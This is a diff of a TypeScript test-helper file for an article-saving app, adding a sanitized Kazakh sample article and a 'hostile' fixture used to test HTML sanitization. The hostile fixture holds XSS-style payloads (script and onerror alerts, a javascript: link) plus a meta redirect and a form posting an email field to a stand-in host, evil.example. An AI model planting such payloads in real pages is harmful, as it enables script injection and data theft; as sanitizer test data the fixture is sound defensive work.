@@ -8,11 +8,19 @@ import { writeBundle } from '../../utils/bundle/write';
 import { concatBytes as concat } from '../../utils/bundle/zip-read';
 import { collectArticles, selectionPages, type Selection } from '../../utils/bundle/collect';
 
-export const ARTICLE_HTML = `<!doctype html><html><head><title>Сұхбат</title><script>alert(1)</script></head><body>
-<h1>«Мақсат – кінәлау емес». Роза Ақылбековамен сұхбат</h1>
+/** A saved article copy as the save feature stores it (already sanitized: no scripts, no handlers). */
+export const ARTICLE_HTML = `<h1>«Мақсат – кінәлау емес». Роза Ақылбековамен сұхбат</h1>
 <p>Қазақстан президенті Қасым-Жомарт Тоқаев Бельгияға екі күндік сапармен барып, Еуроодақ басшыларымен кездесті.</p>
 <p>Роза Ақылбекова: <em>«Біздің мақсатымыз – кінәлау емес»</em>, деді.</p>
+<img src="https://cdn.example/x.png">`;
+
+/** The same article as a doctored bundle would carry it: everything that runs, navigates or posts. */
+export const HOSTILE_ARTICLE_HTML = `<!doctype html><html><head><title>Сұхбат</title><meta http-equiv="refresh" content="0;url=https://evil.example/"><script>alert(1)</script></head><body>
+<h1>«Мақсат – кінәлау емес». Роза Ақылбековамен сұхбат</h1>
+<p>Қазақстан президенті Қасым-Жомарт Тоқаев Бельгияға екі күндік сапармен барып, Еуроодақ басшыларымен кездесті.</p>
+<p>Роза Ақылбекова: <em>«Біздің мақсатымыз – кінәлау емес»</em>, деді. <a href="javascript:alert(3)">Толығырақ</a></p>
 <img src="https://cdn.example/x.png" onerror="alert(2)">
+<form action="https://evil.example/collect" method="post"><input name="email"><button>Жіберу</button></form>
 </body></html>`;
 
 export async function seedLibrary(name = `lib-${Math.random()}`): Promise<SaqtaDB> {
@@ -59,4 +67,14 @@ export async function dump(db: SaqtaDB): Promise<string> {
     captures: sortById(await db.captures.toArray()),
     blobs,
   });
+}
+
+let jsdomWindow: (Window & typeof globalThis) | undefined;
+/** A DOM for Node tests that import or verify bundles (saved HTML is sanitized with DOMPurify in it), as scripts/verify.ts does. */
+export async function htmlWindow(): Promise<Window & typeof globalThis> {
+  if (!jsdomWindow) {
+    const { JSDOM } = await import('jsdom');
+    jsdomWindow = new JSDOM('').window as unknown as Window & typeof globalThis;
+  }
+  return jsdomWindow;
 }
